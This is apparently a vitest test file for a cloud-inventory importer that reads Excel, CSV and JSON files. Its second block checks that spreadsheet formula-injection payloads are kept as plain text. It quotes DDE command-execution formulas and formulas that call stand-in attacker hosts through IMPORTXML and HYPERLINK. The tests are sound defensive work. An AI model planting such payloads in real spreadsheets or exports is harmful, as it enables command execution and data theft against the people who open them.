import ExcelJS from 'exceljs';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readInventory } from '@main/import/read-inventory';
import { FIXTURES } from '@tests/helpers/fixture-paths';

async function workbook(build: (wb: ExcelJS.Workbook) => void): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  build(wb);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

/** The payload lines of the PayloadsAllTheThings CSV-injection page (its ```text blocks). */
function injectionPayloads(): string[] {
  const md = readFileSync(join(FIXTURES, 'injection/PayloadsAllTheThings_CSV-Injection_README.md'), 'utf8');
  const blocks = [...md.matchAll(/```text\n([\s\S]*?)```/g)].map((m) => m[1] ?? '');
  return blocks
    .flatMap((b) => b.split('\n'))
    .map((l) => l.trim())
    .filter((l) => l.length > 0);
}

describe('xlsx', () => {
  const ari = () =>
    workbook((wb) => {
      const vms = wb.addWorksheet('Virtual Machines');
      vms.addRow([
        'Subscription',
        'Resource Group',
        'VM Name',
        'VM Size',
        'Location',
        'Creation Time',
        'Tag Name',
        'Tag Value',
        'Disks'
      ]);
      vms.addRow([
        'Prod',
        'rg-a',
        'vm-1',
        'Standard_D2s_v5',
        'westeurope',
        new Date(Date.UTC(2024, 0, 31)),
        'env',
        'prod',
        { formula: '1+1', result: 2 }
      ]);
      vms.addRow([
        'Prod',
        'rg-a',
        { richText: [{ text: 'vm-' }, { text: '2', font: { bold: true } }] },
        'B2s',
        'westeurope',
        null,
        'owner',
        'team-a',
        null
      ]);
      vms.addRow([]);
      const st = wb.addWorksheet('Storage Accounts');
      st.addRow(['Name', 'Resource Group']);
      st.addRow(['stdata01', 'rg-b']);
    });
  const resolveDisplayType = (name: string): string | null =>
    ({
      'virtual machines': 'microsoft.compute/virtualmachines',
      'storage accounts': 'microsoft.storage/storageaccounts'
    })[name.toLowerCase()] ?? null;

  it('reads the first sheet by default, the type from the sheet name, cells as text', async () => {
    const r = await readInventory(await ari(), { fileName: 'ari.xlsx', resolveDisplayType });
    expect([r.format, r.encoding, r.sheet, r.sheets, r.rows.length, r.errors.length]).toEqual([
      'xlsx',
      'binary',
      'Virtual Machines',
      ['Virtual Machines', 'Storage Accounts'],
      2,
      0
    ]);
    expect(r.rows[0]).toMatchObject({
      line: 2,
      name: 'vm-1',
      type: 'microsoft.compute/virtualmachines',
      sku: 'Standard_D2s_v5',
      subscription: 'Prod',
      resourceGroup: 'rg-a',
      tags: { env: 'prod' },
      source: 'xlsx'
    });
    expect(r.rows[0]?.extra).toEqual({ 'Creation Time': '2024-01-31', Disks: '2' });
    expect(r.rows[1]).toMatchObject({ line: 3, name: 'vm-2', tags: { owner: 'team-a' } });
    expect(r.warnings).toEqual([
      'The workbook has 2 sheets; read "Virtual Machines". Choose a sheet to read another one.'
    ]);
  });

  it('reads a chosen sheet; an unknown sheet is an error listing the sheets', async () => {
    const bytes = await ari();
    const st = await readInventory(bytes, {
      fileName: 'ari.xlsx',
      sheet: 'Storage Accounts',
      resolveDisplayType
    });
    expect(st.rows.map((row) => [row.name, row.type, row.resourceGroup])).toEqual([
      ['stdata01', 'microsoft.storage/storageaccounts', 'rg-b']
    ]);
    const missing = await readInventory(bytes, { fileName: 'ari.xlsx', sheet: 'Disks' });
    expect(missing.errors).toEqual([
      { line: 0, field: null, message: 'No sheet "Disks" (sheets: Virtual Machines, Storage Accounts)' }
    ]);
  });

  it('is detected from the zip magic whatever the file is called; legacy .xls is refused', async () => {
    const r = await readInventory(await ari(), { fileName: 'export.csv' });
    expect(r.format).toBe('xlsx');
    expect(r.warnings[0]).toBe(
      '"export.csv" is named .csv but holds an Excel workbook: read as an Excel workbook'
    );
    const xls = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);
    const old = await readInventory(xls, { fileName: 'old.xls' });
    expect(old.errors[0]?.message).toBe(
      'This is an Excel 97-2003 .xls file: save it as .xlsx or CSV and import that'
    );
  });

  it('a sheet without a name column: one error naming the header row', async () => {
    const bytes = await workbook((wb) => {
      const s = wb.addWorksheet('Data');
      s.addRow([]);
      s.addRow(['Foo', 'Bar']);
      s.addRow(['1', '2']);
    });
    const r = await readInventory(bytes, { fileName: 'x.xlsx' });
    expect(r.errors).toHaveLength(1);
    expect(r.errors[0]).toMatchObject({ line: 2, field: 'name' });
  });
});

describe('formula-injection payloads survive reading as plain text', () => {
  const payloads = injectionPayloads();

  it('finds the payloads of the fixture', () => {
    expect(payloads).toContain(`=cmd|' /C calc'!'A1'`);
    expect(payloads).toContain(`@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(payloads).toContain('=IMPORTXML("http://[ATTACKER.DOMAIN.TLD]/csv", "//a/@href")');
    // The four bare prefixes (= + – @) and twelve payloads.
    expect(payloads.length).toBe(16);
  });

  it('CSV: names, owners and tag values come back byte for byte', async () => {
    const quote = (s: string): string => `"${s.replace(/"/g, '""')}"`;
    const csv = [
      'Name,Owner,Tag Name,Tag Value',
      ...payloads.map((p, i) => [quote(p), quote(p), `t${i}`, quote(p)].join(','))
    ].join('\n');
    const r = await readInventory(Buffer.from(csv), { fileName: 'evil.csv' });
    expect([r.format, r.rows.length, r.errors.length]).toEqual(['generic-csv', payloads.length, 0]);
    r.rows.forEach((row, i) => {
      expect(row.name).toBe(payloads[i]);
      expect(row.owner).toBe(payloads[i]);
      expect(row.tags).toEqual({ [`t${i}`]: payloads[i] });
    });
  });

  it('JSON: payloads as names and tag values are plain strings', async () => {
    const json = JSON.stringify(
      payloads.map((p, i) => ({
        id: `/subscriptions/s/resourceGroups/rg/providers/Microsoft.Web/sites/app${i}`,
        name: p,
        type: 'Microsoft.Web/sites',
        tags: { note: p }
      })),
      null,
      2
    );
    const r = await readInventory(Buffer.from(json), { fileName: 'evil.json' });
    expect(r.rows.map((row) => row.name)).toEqual(payloads);
    expect(r.rows.map((row) => row.tags.note)).toEqual(payloads);
  });

  it('xlsx: a payload stored as a string is read as that string, a real formula as its cached result only', async () => {
    const bytes = await workbook((wb) => {
      const s = wb.addWorksheet('Assets');
      s.addRow(['Name', 'Owner']);
      for (const p of payloads) s.addRow([p, p]);
      s.addRow(['computed', { formula: 'HYPERLINK("http://attacker.example","x")', result: 'x' }]);
    });
    const r = await readInventory(bytes, { fileName: 'evil.xlsx' });
    expect(r.rows.slice(0, payloads.length).map((row) => row.name)).toEqual(payloads);
    expect(r.rows.at(-1)?.owner).toBe('x');
  });
});
